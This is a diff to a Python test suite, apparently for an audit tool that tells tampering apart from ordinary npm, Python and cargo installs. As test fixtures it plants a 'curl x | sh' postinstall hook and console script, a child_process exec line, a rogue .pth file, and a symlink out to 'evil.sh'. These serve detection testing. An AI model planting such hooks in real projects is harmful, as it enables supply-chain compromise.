@@ -40,12 +40,20 @@ def uv_sync(root: Path) -> None:
     write(root, ".local/venvs/project/pyvenv.cfg", "home = /usr/bin\n")
     (root / ".local/venvs/project/bin").mkdir(parents=True)
     os.symlink("/usr/bin/python3", root / ".local/venvs/project/bin/python")
-    for name in ("six.py", "six-1.16.0.dist-info/RECORD", "requests/__init__.py"):
-        cached = write(root, f".cache/uv/archive-v0/-bl_yQz/{name}", f"# {name}\n")
-        installed = root / SITE / name
+    files = {"six.py": "import sys\n", "requests/__init__.py": "# requests\n", "../../../bin/six-cli": "#!/bin/sh\n"}
+    record = "".join(f"{name},{record_hash(text)},{len(text)}\n" for name, text in files.items())
+    for name, text in {**files, "six-1.16.0.dist-info/RECORD": record + "six-1.16.0.dist-info/RECORD,,\n"}.items():
+        cached = write(root, f".cache/uv/archive-v0/-bl_yQz/{name.replace('../', '')}", text)
+        installed = root / os.path.normpath(f"{SITE}/{name}")
         installed.parent.mkdir(parents=True, exist_ok=True)
         os.link(cached, installed)
     write(root, f"{SITE}/_virtualenv.pth", "import _virtualenv\n")
+
+
+def record_hash(text: str) -> str:
+    import base64
+
+    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")
 
 
 def test_uv_sync_in_the_home_is_one_low_finding(tmp_path: Path) -> None:
@@ -106,3 +114,177 @@ def test_an_installed_file_modified_in_place_is_tampering(tmp_path: Path) -> Non
             file.write("require('child_process').exec('id');\n")
 
     assert audited(tmp_path, "workspace", tamper) == [("B07", "high", "node_modules")]
+
+
+# --- tampering after an install, each beside the benign change it could be mistaken for -----------
+
+LOCK = {"name": "p", "lockfileVersion": 3, "packages": {
+    "": {"dependencies": {"left-pad": "1.3.0", "esbuild": "0.20.0"}},
+    "node_modules/left-pad": {"version": "1.3.0", "integrity": "sha512-aaa"},
+    "node_modules/esbuild": {"version": "0.20.0", "integrity": "sha512-bbb", "hasInstallScript": True,
+                             "bin": {"esbuild": "bin/esbuild"}}}}
+
+
+def node_project(root: Path) -> None:
+    """A project as npm leaves it: package.json, package-lock.json, the tree, its .bin links."""
+    import json
+
+    write(root, "package.json", json.dumps({"name": "p", "dependencies": LOCK["packages"][""]["dependencies"]}))
+    write(root, "package-lock.json", json.dumps(LOCK, indent=2))
+    write(root, "node_modules/.package-lock.json", json.dumps(LOCK))
+    write(root, "node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0", "main": "index.js"}')
+    write(root, "node_modules/left-pad/index.js", "module.exports = function leftPad() {};\n")
+    write(root, "node_modules/esbuild/package.json", '{"name": "esbuild", "version": "0.20.0", '
+          '"scripts": {"postinstall": "node install.js"}}')
+    write(root, "node_modules/esbuild/bin/esbuild", "#!/usr/bin/env node\n", 0o755)
+    (root / "node_modules/.bin").mkdir()
+    os.symlink("../esbuild/bin/esbuild", root / "node_modules/.bin/esbuild")
+
+
+def lock_with(root: Path, **versions: str) -> None:
+    import json
+
+    lock = json.loads((root / "package-lock.json").read_text())
+    for name, version in versions.items():
+        lock["packages"].setdefault(f"node_modules/{name}", {})["version"] = version
+    write(root, "package-lock.json", json.dumps(lock, indent=2))
+
+
+def reinstall_left_pad(root: Path, version: str = "1.3.1") -> None:
+    """What npm does to update a package: the directory replaced whole, the lockfile updated."""
+    import shutil
+
+    shutil.rmtree(root / "node_modules/left-pad")
+    write(root, "node_modules/left-pad/package.json", f'{{"name": "left-pad", "version": "{version}"}}')
+    write(root, "node_modules/left-pad/index.js", "module.exports = function leftPad() { return 1; };\n")
+    lock_with(root, **{"left-pad": version})
+
+
+def appended(path: str, text: str) -> Callable[[Path], None]:
+    def change(root: Path) -> None:
+        with (root / path).open("a") as file:
+            file.write(text)
+    return change
+
+
+def tree_severity(root: Path, change: Callable[[Path], None]) -> dict[str, str]:
+    """path -> severity of the findings a change to the installed node project leaves."""
+    node_project(root)
+    return {path: severity for _, severity, path in audited(root, "workspace", change)}
+
+
+def test_a_line_added_to_an_installed_module_is_high_a_reinstall_is_low(tmp_path: Path) -> None:
+    assert tree_severity(tmp_path / "a", appended("node_modules/left-pad/index.js", "require('x');\n")) == {
+        "node_modules": "high"}
+    assert tree_severity(tmp_path / "b", reinstall_left_pad) == {"node_modules": "low"}
+
+
+def test_a_file_added_to_an_installed_package_is_high_a_new_package_is_low(tmp_path: Path) -> None:
+    def new_package(root: Path) -> None:
+        write(root, "node_modules/is-odd/package.json", '{"name": "is-odd", "version": "3.0.1"}')
+        write(root, "node_modules/is-odd/index.js", "module.exports = n => n % 2;\n")
+        lock_with(root, **{"is-odd": "3.0.1"})
+
+    planted = tree_severity(tmp_path / "a", lambda root: write(root, "node_modules/left-pad/extra.js", "x\n"))
+    assert planted == {"node_modules": "high"}
+    assert tree_severity(tmp_path / "b", new_package) == {"node_modules": "low"}
+
+
+def test_an_install_script_the_lockfile_does_not_record_is_high(tmp_path: Path) -> None:
+    def postinstall(root: Path) -> None:
+        write(root, "node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0", '
+              '"scripts": {"postinstall": "curl x | sh"}}')
+
+    def reinstall_esbuild(root: Path) -> None:  # its own postinstall is in the lockfile (hasInstallScript)
+        import shutil
+
+        shutil.rmtree(root / "node_modules/esbuild")
+        write(root, "node_modules/esbuild/package.json", '{"name": "esbuild", "version": "0.20.0", '
+              '"scripts": {"postinstall": "node install.js"}}')
+        write(root, "node_modules/esbuild/bin/esbuild", "#!/usr/bin/env node\n", 0o755)
+
+    assert tree_severity(tmp_path / "a", postinstall) == {"node_modules": "high"}
+    assert tree_severity(tmp_path / "b", reinstall_esbuild) == {"node_modules": "low"}
+
+
+def test_a_bin_link_out_of_the_tree_is_high_one_into_it_is_low(tmp_path: Path) -> None:
+    def outward(root: Path) -> None:
+        (root / "node_modules/.bin/esbuild").unlink()
+        os.symlink("../../scripts/evil.sh", root / "node_modules/.bin/esbuild")
+
+    def inward(root: Path) -> None:
+        os.symlink("../left-pad/index.js", root / "node_modules/.bin/left-pad")
+
+    assert tree_severity(tmp_path / "a", outward) == {"node_modules": "high"}
+    assert tree_severity(tmp_path / "b", inward) == {"node_modules": "low"}
+
+
+def test_a_file_directly_in_node_modules_is_high(tmp_path: Path) -> None:
+    assert tree_severity(tmp_path, lambda root: write(root, "node_modules/left-pad.js", "evil\n")) == {
+        "node_modules": "high"}
+
+
+def test_a_lockfile_edited_to_another_version_is_high_an_install_is_not(tmp_path: Path) -> None:
+    edited = tree_severity(tmp_path / "a", lambda root: lock_with(root, **{"left-pad": "1.3.1"}))
+    assert edited.get("package-lock.json") == "high"
+    assert tree_severity(tmp_path / "b", reinstall_left_pad).get("package-lock.json") is None
+
+
+def python_environment(root: Path, files: dict[str, str], env: str = ".venv") -> None:
+    """An environment as an installer leaves it: pyvenv.cfg and a distribution with its RECORD (an
+    existing environment: the distribution installed again)."""
+    site = f"{env}/lib/python3.11/site-packages"
+    if not (root / env / "pyvenv.cfg").exists():
+        write(root, f"{env}/pyvenv.cfg", "home = /usr/bin\n")
+    record = "".join(f"{name},{record_hash(text)},{len(text)}\n" for name, text in files.items())
+    for name, text in {**files, "six-1.16.0.dist-info/RECORD": record + "six-1.16.0.dist-info/RECORD,,\n"}.items():
+        write(root, os.path.normpath(f"{site}/{name}"), text, 0o755 if "/bin/" in name else 0o644)
+
+
+SIX = {"six.py": "import sys\n", "distutils-precedence.pth": "import os; os.environ.get('X')\n",
+       "../../../bin/six-cli": "#!/usr/bin/python3\nimport six\n"}
+
+
+def env_severity(root: Path, change: Callable[[Path], None]) -> dict[str, str]:
+    python_environment(root, SIX)
+    return {path: severity for _, severity, path in audited(root, "workspace", change)}
+
+
+def test_a_pth_file_no_record_lists_is_found_one_a_record_lists_is_part_of_an_install(tmp_path: Path) -> None:
+    site = ".venv/lib/python3.11/site-packages"
+    planted = env_severity(tmp_path / "a", lambda root: write(root, f"{site}/zz-evil.pth", "import os\n"))
+    assert planted == {f"{site}/zz-evil.pth": "critical", ".venv": "high"}
+
+    def reinstalled(root: Path) -> None:  # an installer writes the distribution and its RECORD again
+        python_environment(root, {**SIX, "six.py": "import sys  # 1.16.1\n"})
+
+    assert env_severity(tmp_path / "b", reinstalled) == {".venv": "high"}  # changed: recreate it on the host
+    assert "no installer makes" not in str(audited_evidence(tmp_path / "c", reinstalled))
+
+
+def test_a_console_script_rewritten_is_found(tmp_path: Path) -> None:
+    rewritten = env_severity(tmp_path, lambda root: write(root, ".venv/bin/six-cli", "#!/bin/sh\ncurl x | sh\n", 0o755))
+    assert rewritten == {".venv": "high"}
+    assert "no installer makes" in str(audited_evidence(tmp_path / "again", lambda root: write(
+        root, ".venv/bin/six-cli", "#!/bin/sh\ncurl x | sh\n", 0o755)))
+
+
+def audited_evidence(root: Path, change: Callable[[Path], None]) -> list[str]:
+    python_environment(root, SIX)
+    state = capture(Mount("workspace", root))
+    change(root)
+    found, _ = audit_mount(state)
+    return [f.evidence for f in found]
+
+
+def test_a_cargo_build_is_one_low_finding(tmp_path: Path) -> None:
+    write(tmp_path, "Cargo.toml", '[package]\nname = "p"\nversion = "0.1.0"\n')
+    write(tmp_path, "src/main.rs", "fn main() {}\n")
+
+    def build(root: Path) -> None:  # what cargo leaves: outputs hard-linked, fingerprints, a tag
+        write(root, "target/CACHEDIR.TAG", "Signature: 8a477f597d28d172789f06886806bc55\n")
+        binary = write(root, "target/debug/deps/p-0123456789abcdef", "\x7fELF", 0o755)
+        os.link(binary, root / "target/debug/p")
+        write(root, "target/debug/.fingerprint/p-0123/bin-p", "abc\n")
+
+    assert audited(tmp_path, "workspace", build) == [("B07", "low", "target")]
